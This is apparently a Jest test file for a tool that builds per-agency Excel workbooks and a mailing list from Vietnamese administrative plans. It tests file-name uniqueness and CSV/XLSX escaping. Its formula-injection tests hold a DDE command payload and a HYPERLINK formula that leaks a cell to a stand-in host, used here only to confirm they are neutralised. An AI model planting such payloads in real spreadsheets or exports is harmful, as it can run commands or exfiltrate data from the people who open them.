import ExcelJS from 'exceljs';
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { reportFileNames } from '../../src/agencies/file-names';
import { csvCell, mailingList, reportFileName } from '../../src/agencies/sending';
import type { Recipient } from '../../src/agencies/recipients';
import { mailingListWorkbook } from '../../src/agency-workbook/mailing-list';
import { main } from '../../src/cli/main';
import { writeWorkbook } from '../../src/xlsx/write';

/**
 * Issue #12 §4 and §5: the mailing list never carries a live formula, and is also a workbook of
 * text cells; every recipient has a file name of its own (long names, names with no Latin
 * letter, Windows reserved names), and the count said is the count written.
 */

// Each test runs whole commands on the seed; a machine shared by several runs can be slow.
jest.setTimeout(60_000);

const dir = mkdtempSync(join(tmpdir(), 'chiso-names-'));

async function run(...argv: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(argv, { out: (t) => out.push(t), err: (t) => err.push(t) });
  return { code, out: out.join('\n'), err: err.join('\n') };
}

const recipient = (name: string, code: string | null = null, extra: Partial<Recipient> = {}): Recipient => ({ key: `AGENCY:${name}:${code}`, name, kind: code ? 'commune' : 'agency', code, email: null, contact: null, ...extra });

const LONG = 'Trung tâm Phục vụ hành chính công và Chuyển đổi số của Thành phố Hà Nội thuộc Ủy ban nhân dân';

describe('one file name per recipient', () => {
  it('two names that agree on their first 80 folded characters get different names', () => {
    const names = reportFileNames([recipient(`${LONG} chi nhánh Bắc`), recipient(`${LONG} chi nhánh Nam`)]);
    const [a, b] = [...names.values()];
    expect(a).not.toBe(b);
    for (const n of [a!, b!]) expect(n.replace(/\.xlsx$/, '').length).toBeLessThanOrEqual(80);
  });

  it('names with no Latin letter get a name of their own, by code when there is one', () => {
    const names = reportFileNames([recipient('行政一'), recipient('行政二'), recipient('行政三', '00999'), recipient('※')]);
    expect([...names.values()]).toEqual(['don-vi.xlsx', 'don-vi-2.xlsx', 'don-vi-00999.xlsx', 'don-vi-3.xlsx']);
  });

  it('the same name twice: the code tells them apart, then a number', () => {
    const names = reportFileNames([recipient('Xã Phú Xuyên', '10001'), recipient('Xã Phú Xuyên', '10002'), recipient('Sở Y tế'), recipient('Sở Y Tế')]);
    expect([...names.values()]).toEqual(['10001-xa-phu-xuyen.xlsx', '10002-xa-phu-xuyen.xlsx', 'so-y-te.xlsx', 'so-y-te-2.xlsx']);
  });

  it.each(['CON', 'Prn', 'aux', 'NUL', 'COM1', 'com9', 'LPT1', 'lpt9'])('never the Windows reserved name %s', (name) => {
    const file = reportFileName(recipient(name));
    expect(file.replace(/\.xlsx$/, '').toUpperCase()).not.toMatch(/^(CON|PRN|AUX|NUL|COM[1-9]|LPT[1-9])$/);
  });

  it('a name does not depend on who else is sent (--only) when named among all recipients', () => {
    const all = [recipient('Sở Y tế'), recipient('Sở Y Tế')];
    expect(reportFileName(all[1]!, all)).toBe('so-y-te-2.xlsx');
  });
});

/** A plan whose PAR table names agencies whose file names would collide. */
function collidingPlan(): string {
  const leads = [`${LONG} chi nhánh Bắc`, `${LONG} chi nhánh Nam`, '行政一', '行政二', 'CON'];
  const head = ['STT |', 'Lĩnh vực/Tiêu chí |', 'Điểm tối đa |', 'Kết quả năm 2024 |', 'Mục tiêu năm 2025 |', 'Đơn vị chủ trì |'];
  const rows = [['1 |', 'Lĩnh vực một |', `${leads.length} |`, `${leads.length} |`, `${leads.length} |`, '|']];
  leads.forEach((l, i) => rows.push([`1.${i + 1} |`, `Tiêu chí ${i + 1} |`, '1 |', '1 |', '1 |', `${l} |`]));
  rows.push(['|', 'TỔNG ĐIỂM |', `${leads.length} |`, `${leads.length} |`, `${leads.length} |`, '|']);
  return ['Số: 12/KH-UBND |', 'PHỤ LỤC 2', 'CHỈ SỐ CCHC - PAR INDEX', ...head, ...rows.flat()].join('\n') + '\n';
}

describe('assemble with colliding names', () => {
  it('writes as many workbooks as it says, one per recipient, none with a reserved name', async () => {
    const plan = join(dir, 'colliding.txt');
    writeFileSync(plan, collidingPlan());
    const out = join(dir, 'colliding');
    const r = await run('assemble', plan, '-o', out);
    expect(r.code).toBe(0);
    const said = Number(/Đã tạo (\d+) sổ tính/.exec(r.out)?.[1]);
    const workbooks = readdirSync(out).filter((f) => f.endsWith('.xlsx') && f !== 'danh-sach-gui.xlsx');
    expect(said).toBe(5);
    expect(workbooks).toHaveLength(said);
    const listed = readFileSync(join(out, 'danh-sach-gui.csv'), 'utf8').split('\r\n').slice(1, -1).map((l) => l.split(',')[0]);
    expect(listed.sort()).toEqual(workbooks.sort());
  }, 30_000);
});

describe('the mailing list never carries a live formula', () => {
  const hostile = recipient('=cmd|\' /C calc\'!A0', null, { email: '=HYPERLINK("http://x.example/?"&A1,"bấm")', contact: '+84 912 345 678' });
  const others = [recipient('@SUM(1+1)'), recipient('-2+3'), recipient('\tTab'), recipient('\rCR'), recipient('Sở Nội vụ', null, { email: 'snv@hanoi.gov.vn' })];

  it.each([
    ['=1+2', `"'=1+2"`],
    ['+84 912', `"'+84 912"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tTab', `"'\tTab"`],
    ['\rCR', `"'\rCR"`],
    ['Sở Nội vụ', 'Sở Nội vụ'],
    ['a, b', '"a, b"'],
    ['nói "không"', '"nói ""không"""'],
  ])('CSV cell %j -> %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it('no CSV cell starts with = + - @, a tab or a CR', () => {
    const csv = mailingList([hostile, ...others]).replace(/^\uFEFF/, '');
    // Split the way a spreadsheet does: quoted cells may hold commas.
    const cells = csv.match(/("([^"]|"")*"|[^,\r\n]*)(?=,|\r\n)/g)!.map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'=HYPERLINK("http://x.example/?"&A1,"bấm")`);
  });

  it('the .xlsx list holds every cell as text: no formula, the words exactly as typed', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(await writeWorkbook(mailingListWorkbook([hostile, ...others]))) as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const cells: ExcelJS.Cell[] = [];
    ws.eachRow((row) => row.eachCell((c) => void cells.push(c)));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    expect(cells.every((c) => c.type === ExcelJS.ValueType.String)).toBe(true);
    expect(cells.map((c) => c.value)).toContain('=HYPERLINK("http://x.example/?"&A1,"bấm")');
    expect(ws.getRow(2).getCell(2).numFmt).toBe('@');
  });

  it('assemble writes both lists', async () => {
    const out = join(dir, 'lists');
    const seed = join(__dirname, '../../seeds/ke-hoach-159-KH-UBND-2025.txt');
    expect((await run('assemble', seed, '-o', out, '--only', 'Sở Nội vụ')).code).toBe(0);
    expect(readdirSync(out)).toEqual(expect.arrayContaining(['danh-sach-gui.csv', 'danh-sach-gui.xlsx']));
  }, 30_000);
});
